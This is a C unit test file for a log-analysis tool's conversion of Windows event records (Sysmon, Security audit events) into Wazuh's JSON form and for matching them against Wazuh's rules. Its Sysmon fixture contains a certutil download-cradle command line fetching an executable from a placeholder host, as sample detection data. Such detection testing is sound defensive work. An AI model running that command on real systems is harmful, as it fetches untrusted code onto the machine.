/*
 * test_winevt.c - unit tests of the Windows event-channel conversion: the
 * agent's raw {"Message","Event":"<Event>..."} form and evtx_dump's JSON
 * form become Wazuh's {"win":...} document (field names, escaping, dropped
 * values, severity, audit names); other lines are left alone; and, with
 * Wazuh's ruleset, raw events built from every flattened Windows case of
 * the Wazuh test suite reach the same rule as the flattened line itself.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <ctype.h>
#include <dirent.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "vg_test.h"
#include "vigil/engine.h"
#include "vigil/rule.h"
#include "vigil/ruleset_spec.h"
#include "vigil/winevt.h"

/* Sysmon event 1 as the Windows agent sends it (XML as EvtRender writes it). */
static const char sysmon1_raw[] =
    "{\"Message\":\"Process Create:\\r\\nRuleName: -\\r\\nImage: C:\\\\Windows\\\\System32\\\\"
    "certutil.exe\",\"Event\":\"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/"
    "event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-"
    "06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task>"
    "<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2021-09-"
    "01T21:03:33.3199000Z'/><EventRecordID>3456</EventRecordID><Correlation/><Execution "
    "ProcessID='2844' ThreadID='3748'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>"
    "<Computer>DESKTOP-1</Computer><Security UserID='S-1-5-18'/></System><EventData>"
    "<Data Name='RuleName'>-</Data><Data Name='UtcTime'>2021-09-01 21:03:33.317</Data>"
    "<Data Name='Image'>C:\\\\Windows\\\\System32\\\\certutil.exe</Data>"
    "<Data Name='CommandLine'>certutil.exe -urlcache -split -f http://x/a.exe &amp; \\\"q\\\"  "
    "</Data><Data Name='CurrentDirectory'>C:\\\\Users\\\\Public\\\\</Data>"
    "<Data Name='ParentImage'>(NULL)</Data><Data Name='Empty'></Data></EventData></Event>\"}";

/* The same event as evtx_dump prints it. */
static const char sysmon1_evtx[] =
    "{\"Message\":\"Process Create:\\r\\nRuleName: -\\r\\nImage: C:\\\\Windows\\\\System32\\\\"
    "certutil.exe\",\"Event\":{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/"
    "2004/08/events/event\"},\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-"
    "Windows-Sysmon\",\"Guid\":\"{5770385f-c22a-43e0-bf4c-06f5698ffbd9}\"}},\"EventID\":1,"
    "\"Version\":5,\"Level\":4,\"Task\":1,\"Opcode\":0,\"Keywords\":\"0x8000000000000000\","
    "\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2021-09-01T21:03:33.3199000Z\"}},"
    "\"EventRecordID\":3456,\"Correlation\":null,\"Execution\":{\"#attributes\":{\"ProcessID\":"
    "2844,\"ThreadID\":3748}},\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":"
    "\"DESKTOP-1\",\"Security\":{\"#attributes\":{\"UserID\":\"S-1-5-18\"}}},\"EventData\":{"
    "\"RuleName\":\"-\",\"UtcTime\":\"2021-09-01 21:03:33.317\",\"Image\":\"C:\\\\Windows\\\\"
    "System32\\\\certutil.exe\",\"CommandLine\":\"certutil.exe -urlcache -split -f http://x/"
    "a.exe &amp; \\\"q\\\"  \",\"CurrentDirectory\":\"C:\\\\Users\\\\Public\\\\\","
    "\"ParentImage\":\"(NULL)\",\"Empty\":null}}}";

static json_t *convert_ok(const char *line)
{
	struct vg_buf out;
	vg_buf_init(&out, 0);
	assert_int_equal(vg_winevt_convert(line, strlen(line), &out, NULL), 0);
	json_error_t err;
	json_t *doc = json_loads(vg_buf_str(&out), 0, &err);
	if (!doc)
		fail_msg("output is not JSON (%s): %s", err.text, vg_buf_str(&out));
	vg_buf_free(&out);
	return doc;
}

static const char *get(json_t *doc, const char *section, const char *key)
{
	json_t *v = json_object_get(json_object_get(json_object_get(doc, "win"), section), key);
	return json_string_value(v);
}

static void test_raw_sysmon(void **state)
{
	(void)state;
	json_t *doc = convert_ok(sysmon1_raw);
	assert_string_equal(get(doc, "system", "providerName"), "Microsoft-Windows-Sysmon");
	assert_string_equal(get(doc, "system", "providerGuid"),
	                    "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}");
	assert_string_equal(get(doc, "system", "eventID"), "1");
	assert_string_equal(get(doc, "system", "systemTime"), "2021-09-01T21:03:33.3199000Z");
	assert_string_equal(get(doc, "system", "processID"), "2844");
	assert_string_equal(get(doc, "system", "threadID"), "3748");
	assert_string_equal(get(doc, "system", "channel"), "Microsoft-Windows-Sysmon/Operational");
	assert_string_equal(get(doc, "system", "severityValue"), "INFORMATION");
	assert_string_equal(get(doc, "system", "message"),
	                    "\"Process Create:\r\nRuleName: -\r\nImage: "
	                    "C:\\Windows\\System32\\certutil.exe\"");
	assert_null(get(doc, "system", "correlation"));
	assert_null(get(doc, "system", "securityUserID")); /* as in Wazuh */
	/* values keep one level of JSON escaping, as Wazuh's rules expect */
	assert_string_equal(get(doc, "eventdata", "image"),
	                    "C:\\\\Windows\\\\System32\\\\certutil.exe");
	assert_string_equal(get(doc, "eventdata", "currentDirectory"), "C:\\\\Users\\\\Public\\\\");
	assert_string_equal(get(doc, "eventdata", "commandLine"),
	                    "certutil.exe -urlcache -split -f http://x/a.exe &amp; \\\"q\\\"");
	assert_null(get(doc, "eventdata", "ruleName"));    /* "-" */
	assert_null(get(doc, "eventdata", "parentImage")); /* "(NULL)" */
	assert_null(get(doc, "eventdata", "empty"));
	/* key order follows the XML, as Wazuh writes it */
	const char *first = json_object_iter_key(
	    json_object_iter(json_object_get(json_object_get(doc, "win"), "system")));
	assert_string_equal(first, "providerName");
	json_decref(doc);
}

static void test_evtx_same_as_raw(void **state)
{
	(void)state;
	struct vg_buf a, b;
	vg_buf_init(&a, 0);
	vg_buf_init(&b, 0);
	assert_int_equal(vg_winevt_convert(sysmon1_raw, strlen(sysmon1_raw), &a, NULL), 0);
	assert_int_equal(vg_winevt_convert(sysmon1_evtx, strlen(sysmon1_evtx), &b, NULL), 0);
	assert_string_equal(vg_buf_str(&a), vg_buf_str(&b));
	/* double-quoted attributes read too */
	const char *dq =
	    "{\"Event\":\"<Event><System><EventID Qualifiers=\\\"16384\\\">7036"
	    "</EventID><Level>4</Level><Keywords>0x8080000000000000</Keywords>"
	    "</System><EventData><Data Name=\\\"param1\\\">Spooler</Data><Data>a</Data>"
	    "<Data>b </Data><Binary>00AA</Binary></EventData></Event>\"}";
	json_t *doc = convert_ok(dq);
	assert_string_equal(get(doc, "system", "eventID"), "7036");
	assert_string_equal(get(doc, "eventdata", "param1"), "Spooler");
	assert_string_equal(get(doc, "eventdata", "data"), "a, b");
	assert_string_equal(get(doc, "eventdata", "binary"), "00AA");
	assert_null(get(doc, "system", "message"));
	json_decref(doc);
	vg_buf_free(&a);
	vg_buf_free(&b);
}

static void test_audit_and_extra(void **state)
{
	(void)state;
	const char *ev =
	    "{\"Message\":\"System audit policy was changed.\",\"Event\":\"<Event><System>"
	    "<EventID>4719</EventID><Level>0</Level><Keywords>0x8020000000000000</Keywords>"
	    "</System><EventData><Data Name='CategoryId'>%%8274</Data><Data Name='SubcategoryId'>"
	    "%%12801</Data><Data Name='AuditPolicyChanges'>%%8449, %%8451</Data></EventData>"
	    "<UserData><LogFileCleared><SubjectUserName>bob</SubjectUserName><X>-</X>"
	    "</LogFileCleared></UserData></Event>\"}";
	json_t *doc = convert_ok(ev);
	assert_string_equal(get(doc, "system", "severityValue"), "AUDIT_SUCCESS");
	assert_string_equal(get(doc, "eventdata", "categoryId"), "%%8274");
	assert_string_equal(get(doc, "eventdata", "category"), "Object Access");
	assert_string_equal(get(doc, "eventdata", "subcategory"), "Registry");
	assert_string_equal(get(doc, "eventdata", "auditPolicyChangesId"), "%%8449, %%8451");
	assert_string_equal(get(doc, "eventdata", "auditPolicyChanges"),
	                    "Success added, Failure added");
	assert_string_equal(get(doc, "logFileCleared", "subjectUserName"), "bob");
	assert_null(get(doc, "logFileCleared", "x"));
	json_decref(doc);
	/* level 0 without audit bits, level 2 */
	doc = convert_ok("{\"Event\":\"<Event><System><Level>0</Level><Keywords>0x0</Keywords>"
	                 "</System></Event>\"}");
	assert_string_equal(get(doc, "system", "severityValue"), "UNKNOWN");
	assert_null(json_object_get(json_object_get(doc, "win"), "eventdata"));
	json_decref(doc);
	doc = convert_ok("{\"Event\":\"<Event><System><Level>2</Level><Keywords>0x0</Keywords>"
	                 "</System></Event>\"}");
	assert_string_equal(get(doc, "system", "severityValue"), "ERROR");
	json_decref(doc);
}

static void test_not_events(void **state)
{
	(void)state;
	struct vg_buf out;
	struct vg_diag d;
	vg_buf_init(&out, 0);
	vg_diag_init(&d);
	const char *pass[] = { "Feb  5 17:32:18 host sshd[1]: Accepted",
		               "{\"win\":{\"system\":{\"eventID\":\"4624\"}}}",
		               "{\"Events\": 1}",
		               "[\"Event\"]",
		               "{\"x\":{\"Event\":\"<Event/>\"}}",
		               "" };
	for (size_t i = 0; i < sizeof(pass) / sizeof(*pass); i++)
		assert_int_equal(vg_winevt_convert(pass[i], strlen(pass[i]), &out, &d), VG_ENOENT);
	assert_int_equal(out.len, 0);
	const char *broken[] = { "{\"Event\":\"<Event><System>\"}", "{\"Event\": 12}",
		                 "{\"Event\":\"<Event>\", oops}", "{\"Event\":\"no xml here\"}" };
	for (size_t i = 0; i < sizeof(broken) / sizeof(*broken); i++)
		assert_int_equal(vg_winevt_convert(broken[i], strlen(broken[i]), &out, &d),
		                 VG_EPARSE);
	assert_true(d.errors >= 4);
	vg_diag_free(&d);
	vg_buf_free(&out);
}

/* ---- through Wazuh's ruleset ---- */

static struct vg_analyzer *load_wazuh(struct vg_ruleset_spec *spec)
{
	char root[512];
	vg_test_require_data(root, sizeof(root), "wazuh-ruleset");
	memset(spec, 0, sizeof(*spec));
	assert_int_equal(
	    vg_ruleset_spec_add_wazuh(spec, root, VG_WAZUH_TEST_RULESET | VG_WAZUH_WINDOWS_AS_JSON),
	    0);
	struct vg_diag d;
	struct vg_ruleset *rs = NULL;
	vg_diag_init(&d);
	assert_int_equal(vg_ruleset_spec_load(spec, &rs, &d), 0);
	vg_diag_free(&d);
	struct vg_analyzer *a = NULL;
	assert_int_equal(vg_analyzer_create(rs, 3, &a), 0);
	vg_ruleset_unref(rs);
	return a;
}

static unsigned rule_of(struct vg_analyzer *a, const char *line)
{
	struct vg_analysis res;
	assert_int_equal(vg_analyzer_reset_state(a), 0);
	assert_int_equal(vg_analyzer_process(a, "stdin", line, NULL, &res), 0);
	return res.rule ? res.rule->id : 0;
}

/* Undoes one level of JSON escaping (leniently: unknown escapes stay). */
static void unescape_once(const char *s, struct vg_buf *out)
{
	static const char from[] = "btnfr\"\\/", to[] = "\b\t\n\f\r\"\\/";
	for (; *s; s++) {
		const char *k = s[0] == '\\' && s[1] ? strchr(from, s[1]) : NULL;
		if (k) {
			assert_int_equal(vg_buf_addc(out, to[k - from]), 0);
			s++;
		} else {
			assert_int_equal(vg_buf_addc(out, *s), 0);
		}
	}
}

static void add_attr(struct vg_buf *x, const char *name, const char *wazuh_value)
{
	struct vg_buf raw;
	vg_buf_init(&raw, 0);
	unescape_once(wazuh_value, &raw);
	char q = strchr(vg_buf_str(&raw), '\'') ? '"' : '\'';
	vg_buf_printf(x, " %s=%c%s%c", name, q, vg_buf_str(&raw), q);
	vg_buf_free(&raw);
}

static void add_elem(struct vg_buf *x, const char *name, const char *attr, const char *value)
{
	struct vg_buf raw;
	vg_buf_init(&raw, 0);
	unescape_once(value, &raw);
	vg_buf_printf(x, "<%s", name);
	if (attr)
		add_attr(x, "Name", attr);
	vg_buf_printf(x, ">%s</%s>", vg_buf_str(&raw), name);
	vg_buf_free(&raw);
}

/* The System element for a flattened "system" object. */
static void system_xml(json_t *sys, struct vg_buf *x)
{
	const char *k;
	json_t *v;
	vg_buf_addstr(x, "<System><Provider");
	if (json_object_get(sys, "providerName"))
		add_attr(x, "Name", json_string_value(json_object_get(sys, "providerName")));
	if (json_object_get(sys, "providerGuid"))
		add_attr(x, "Guid", json_string_value(json_object_get(sys, "providerGuid")));
	if (json_object_get(sys, "eventSourceName"))
		add_attr(x, "EventSourceName",
		         json_string_value(json_object_get(sys, "eventSourceName")));
	vg_buf_addstr(x, "/>");
	if (json_object_get(sys, "systemTime")) {
		vg_buf_addstr(x, "<TimeCreated");
		add_attr(x, "SystemTime", json_string_value(json_object_get(sys, "systemTime")));
		vg_buf_addstr(x, "/>");
	}
	vg_buf_addstr(x, "<Execution");
	if (json_object_get(sys, "processID"))
		add_attr(x, "ProcessID", json_string_value(json_object_get(sys, "processID")));
	if (json_object_get(sys, "threadID"))
		add_attr(x, "ThreadID", json_string_value(json_object_get(sys, "threadID")));
	vg_buf_addstr(x, "/>");
	json_object_foreach(sys, k, v)
	{
		static const char *const special[] = { "providerName",    "providerGuid",
			                               "eventSourceName", "systemTime",
			                               "processID",       "threadID",
			                               "severityValue",   "message" };
		bool skip = !json_is_string(v);
		for (size_t i = 0; i < sizeof(special) / sizeof(*special); i++)
			skip = skip || strcmp(k, special[i]) == 0;
		if (skip)
			continue;
		char name[128];
		snprintf(name, sizeof(name), "%s", k);
		name[0] = (char)toupper((unsigned char)name[0]);
		add_elem(x, name, NULL, json_string_value(v));
	}
	vg_buf_addstr(x, "</System>");
}

/*
 * Builds the agent's raw form of a flattened {"win":...} event; returns
 * false when the event cannot be written as XML (a raw '<' in a value).
 */
static bool raw_from_flat(const char *flat, struct vg_buf *line)
{
	json_t *doc = json_loads(flat, 0, NULL);
	json_t *win = json_object_get(doc, "win");
	json_t *sys = json_object_get(win, "system"), *ed = json_object_get(win, "eventdata");
	struct vg_buf x;
	vg_buf_init(&x, 0);
	vg_buf_addstr(&x, "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>");
	system_xml(sys, &x);
	vg_buf_addstr(&x, "<EventData>");
	const char *k;
	json_t *v;
	json_object_foreach(ed, k, v)
	{
		if (json_is_string(v))
			add_elem(&x, "Data", strcmp(k, "data") ? k : NULL, json_string_value(v));
	}
	vg_buf_addstr(&x, "</EventData>");
	json_object_foreach(win, k, v)
	{ /* UserData sections: {"logFileCleared":{...}} */
		if (!json_is_object(v) || !strcmp(k, "system") || !strcmp(k, "eventdata"))
			continue;
		char name[128];
		snprintf(name, sizeof(name), "%s", k);
		name[0] = (char)toupper((unsigned char)name[0]);
		vg_buf_printf(&x, "<UserData><%s>", name);
		const char *k2;
		json_t *v2;
		json_object_foreach(v, k2, v2)
		{
			snprintf(name, sizeof(name), "%s", k2);
			name[0] = (char)toupper((unsigned char)name[0]);
			if (json_is_string(v2))
				add_elem(&x, name, NULL, json_string_value(v2));
		}
		snprintf(name, sizeof(name), "%s", k);
		name[0] = (char)toupper((unsigned char)name[0]);
		vg_buf_printf(&x, "</%s></UserData>", name);
	}
	vg_buf_addstr(&x, "</Event>");
	bool ok = win != NULL;
	/* a '<' or '>' inside a value would end up as markup */
	size_t lt = 0, gt = 0;
	for (const char *p = vg_buf_str(&x); *p; p++) {
		lt += *p == '<';
		gt += *p == '>';
	}
	ok = ok && lt == gt;
	json_t *out = json_object();
	const char *msg = json_string_value(json_object_get(sys, "message"));
	if (msg) {
		size_t n = strlen(msg);
		size_t b = msg[0] == '"', e = n > b && msg[n - 1] == '"';
		json_object_set_new(out, "Message", json_stringn(msg + b, n - b - e));
	}
	json_object_set_new(out, "Event", json_string(vg_buf_str(&x)));
	char *text = json_dumps(out, JSON_COMPACT);
	vg_buf_reset(line);
	vg_buf_addstr(line, text);
	free(text);
	json_decref(out);
	json_decref(doc);
	vg_buf_free(&x);
	return ok;
}

struct tally {
	unsigned cases, same, skipped, severity;
	unsigned sysmon1, sec4688, sec4698;
};

static const char *severity_of(json_t *doc)
{
	json_t *sys = json_object_get(json_object_get(doc, "win"), "system");
	return json_string_value(json_object_get(sys, "severityValue"));
}

/* Does the flattened event carry the severityValue Wazuh derives from its
 * level and keywords (the conversion's)? */
static bool same_severity(const char *flat, const char *converted)
{
	json_t *a = json_loads(flat, 0, NULL), *b = json_loads(converted, 0, NULL);
	const char *sa = severity_of(a), *sb = severity_of(b);
	bool same = (!sa && !sb) || (sa && sb && strcmp(sa, sb) == 0);
	json_decref(a);
	json_decref(b);
	return same;
}

static void check_case(struct vg_analyzer *a, const char *flat, struct tally *t, const char *where)
{
	struct vg_buf raw, conv;
	vg_buf_init(&raw, 0);
	vg_buf_init(&conv, 0);
	if (!raw_from_flat(flat, &raw)) {
		t->skipped++;
		goto out;
	}
	assert_int_equal(vg_winevt_convert(raw.data, raw.len, &conv, NULL), 0);
	if (!same_severity(flat, vg_buf_str(&conv))) {
		t->severity++; /* hand-edited test data: Wazuh could not have produced it */
		goto out;
	}
	unsigned want = rule_of(a, flat), got = rule_of(a, vg_buf_str(&conv));
	t->cases++;
	if (want != got) {
		printf("%s: rule %u from the flattened line, %u from the raw form\n  %s\n", where,
		       want, got, vg_buf_str(&conv));
		goto out;
	}
	t->same++;
	json_t *doc = json_loads(flat, 0, NULL);
	json_t *sys = json_object_get(json_object_get(doc, "win"), "system");
	const char *id = json_string_value(json_object_get(sys, "eventID"));
	const char *prov = json_string_value(json_object_get(sys, "providerName"));
	if (id && want) {
		t->sysmon1 += strcmp(id, "1") == 0 && prov && strstr(prov, "Sysmon");
		t->sec4688 += strcmp(id, "4688") == 0;
		t->sec4698 += strcmp(id, "4698") == 0;
	}
	json_decref(doc);
out:
	vg_buf_free(&raw);
	vg_buf_free(&conv);
}

static void scan_ini(struct vg_analyzer *a, const char *path, struct tally *t)
{
	FILE *f = fopen(path, "r");
	assert_non_null(f);
	char *line = NULL;
	size_t cap = 0;
	unsigned no = 0;
	while (getline(&line, &cap, f) > 0) {
		no++;
		char *p = strstr(line, "pass = {");
		if (!p || strncmp(line, "log ", 4) != 0 || !strstr(p, "\"win\""))
			continue;
		p += 7;
		p[strcspn(p, "\r\n")] = '\0';
		json_t *probe = json_loads(p, 0, NULL);
		if (!probe)
			continue;
		json_decref(probe);
		char where[1100];
		snprintf(where, sizeof(where), "%s:%u", path, no);
		check_case(a, p, t, where);
	}
	free(line);
	fclose(f);
}

static void test_wazuh_rules(void **state)
{
	(void)state;
	char dir[512];
	vg_test_require_data(dir, sizeof(dir), "wazuh-ruleset/testing/tests");
	struct vg_ruleset_spec *spec = calloc(1, sizeof(*spec));
	assert_non_null(spec);
	struct vg_analyzer *a = load_wazuh(spec);
	struct tally t = { 0 };
	DIR *dp = opendir(dir);
	assert_non_null(dp);
	struct dirent *de;
	while ((de = readdir(dp))) {
		if (!strstr(de->d_name, ".ini") ||
		    (strncmp(de->d_name, "win", 3) && strncmp(de->d_name, "sysmon", 6)))
			continue;
		char path[1024];
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		scan_ini(a, path, &t);
	}
	closedir(dp);
	printf("winevt: %u flattened Windows cases, %u reach the same rule from the raw form; "
	       "left out: %u not expressible as XML, %u with a severityValue Wazuh would not "
	       "derive from their level\n",
	       t.cases, t.same, t.skipped, t.severity);
	assert_true(t.cases >= 50);
	assert_int_equal(t.same, t.cases);
	assert_true(t.sysmon1 >= 1);
	assert_true(t.sec4688 >= 1);
	assert_true(t.sec4698 >= 1);
	vg_analyzer_destroy(a);
	vg_ruleset_spec_free(spec);
	free(spec);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_raw_sysmon),      cmocka_unit_test(test_evtx_same_as_raw),
		cmocka_unit_test(test_audit_and_extra), cmocka_unit_test(test_not_events),
		cmocka_unit_test(test_wazuh_rules),
	};
	return vg_test_result(cmocka_run_group_tests(tests, NULL, NULL));
}
